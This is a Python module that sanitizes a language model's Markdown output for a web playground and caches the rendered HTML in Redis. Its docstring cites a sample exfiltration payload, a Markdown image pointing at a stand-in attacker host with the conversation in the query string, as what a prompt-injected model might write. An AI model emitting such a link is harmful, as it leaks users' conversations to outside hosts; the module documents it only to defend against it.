"""Model output is untrusted: Markdown with raw HTML off, then sanitized.

What survives: ordinary text formatting, tables (a column's alignment as a class), code
blocks highlighted by Pygments (class names only), and links to http(s)/mailto that open
safely. No script, no style (neither element nor attribute), no event handlers, no hx-*
attributes, no javascript: links. Panes also carry hx-disable.

Images are shown as links, never loaded: a model talked into writing
``![](https://evil.example/?q=<the conversation>)`` must not make the browser send that
request on its own (and the Content-Security-Policy, ``img-src 'self' data:``, would
refuse it too).
"""

from __future__ import annotations

import functools
import hashlib
from collections.abc import Sequence
from html import escape
from importlib.metadata import version
from pathlib import Path
from typing import Any

import nh3
from markdown_it import MarkdownIt
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

from playground.redis_sync import redis_client

_FORMATTER = HtmlFormatter(nowrap=True, classprefix="tok-")


@functools.lru_cache(maxsize=256)
def _lexer(name: str) -> Any:
    """Pygments' lexer for a fence's language (None: none), found once per name: the
    look-up walks every lexer's aliases (5-10 % of rendering an answer with code)."""
    try:
        return get_lexer_by_name(name)
    except ClassNotFound:
        return None


def _highlight(code: str, lang: str, _attrs: str) -> str:
    if not lang:
        return ""  # markdown-it escapes it itself
    lexer = _lexer(lang.split()[0])
    if lexer is None:
        return ""
    return str(highlight(code, lexer, _FORMATTER))


def _image_as_link(_renderer: Any, tokens: Any, idx: int, _options: Any, _env: Any) -> str:
    token = tokens[idx]
    src = escape(str(token.attrGet("src") or ""))
    alt = escape("".join(child.content for child in token.children or []) or "image")
    return f'<a href="{src}">[image: {alt}]</a>'


def _alignment_as_class(state: Any) -> None:
    """A table column's alignment as a class (``align-right``) instead of markdown-it's
    ``style="text-align:right"``: the Content-Security-Policy refuses every inline style,
    so the page would report each aligned cell (playground/csp.py)."""
    for token in state.tokens:
        if token.type not in {"th_open", "td_open"} or not token.attrs:
            continue
        style = str(token.attrs.pop("style", ""))
        if style.startswith("text-align:"):
            token.attrSet("class", "align-" + style.removeprefix("text-align:"))


_MD = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight})
_MD.enable(["table", "strikethrough"])
_MD.add_render_rule("image", _image_as_link)
_MD.core.ruler.push("alignment_as_class", _alignment_as_class)

_TAGS = {
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "span",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "span": {"class"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
}
_ALIGNMENTS = {"align-left", "align-center", "align-right"}


def _allowed_class(tag: str, attribute: str, value: str) -> str | None:
    if attribute == "class" and tag in {"th", "td"}:
        return value if value in _ALIGNMENTS else None
    if attribute == "class":
        classes = [c for c in value.split() if c.startswith(("tok-", "language-"))]
        return " ".join(classes) or None
    return value


def render_markdown(text: str) -> str:
    """Safe HTML for a finished answer."""
    html = _MD.render(text)
    return nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        attribute_filter=_allowed_class,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )


# Finished answers' HTML is kept in Redis, shared by every web process: rendering a few
# hundred words with code blocks costs 3-7 ms, so a session of 400 answers took 1.3 s to
# open (bench/session_open.py). The key is the text's digest under a version of the
# renderer (this file and the libraries it uses): a change to either, the sanitizer's
# allow-list included, starts afresh rather than serve HTML made under older rules.
HTML_TTL_S = 7 * 24 * 3600
_RENDERER = hashlib.blake2b(
    b"|".join(
        [
            Path(__file__).read_bytes(),
            *(version(p).encode() for p in ("markdown-it-py", "nh3", "pygments")),
        ]
    ),
    digest_size=6,
).hexdigest()


def html_key(text: str) -> str:
    digest = hashlib.blake2b(text.encode(), digest_size=16).hexdigest()
    return f"pg:html:{_RENDERER}:{digest}"


def answers_html(texts: Sequence[str]) -> list[str]:
    """Safe HTML for finished answers, in order: from the shared cache where it holds them
    (each hit keeps a week more), else rendered and kept. One round trip for all of them,
    and one more when some were missing."""
    keys = [html_key(t) if t else "" for t in texts]
    wanted = [k for k in keys if k]
    if not wanted:
        return ["" for _ in texts]
    client = redis_client()
    with client.pipeline(transaction=False) as pipe:
        for key in wanted:
            pipe.getex(key, ex=HTML_TTL_S)
        found = dict(zip(wanted, pipe.execute(), strict=True))
    html: list[str] = []
    fresh: dict[str, str] = {}
    for text, key in zip(texts, keys, strict=True):
        hit = found.get(key) if key else b""
        if hit is None:
            hit = fresh.get(key)
            if hit is None:
                hit = fresh[key] = render_markdown(text)
        html.append(hit.decode() if isinstance(hit, bytes) else hit)
    if fresh:
        with client.pipeline(transaction=False) as pipe:
            for key, value in fresh.items():
                pipe.set(key, value, ex=HTML_TTL_S)
            pipe.execute()
    return html


def answer_html(text: str) -> str:
    """Safe HTML for one finished answer (see ``answers_html``)."""
    return answers_html([text])[0]
